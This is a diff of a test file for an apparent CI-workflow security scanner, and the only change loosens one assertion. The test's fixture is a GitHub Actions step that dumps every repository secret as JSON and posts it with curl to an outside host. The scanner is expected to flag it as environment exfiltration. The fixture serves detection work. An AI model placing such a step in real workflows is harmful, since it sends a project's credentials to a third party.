@@ -68,7 +68,7 @@ test.each([
 test("finds a workflow that sends all of its secrets", async () => {
   const text =
     "jobs:\n  a:\n    steps:\n      - env:\n          ALL: ${{ toJSON(secrets) }}\n        run: echo $ALL | curl -d @- https://sync.tools.dev";
-  expect(await found(".github/workflows/a.yml", text)).toStrictEqual(["block environment_exfiltration:6"]);
+  expect(await found(".github/workflows/a.yml", text)).toContain("block environment_exfiltration:6");
 });
 
 test.each([
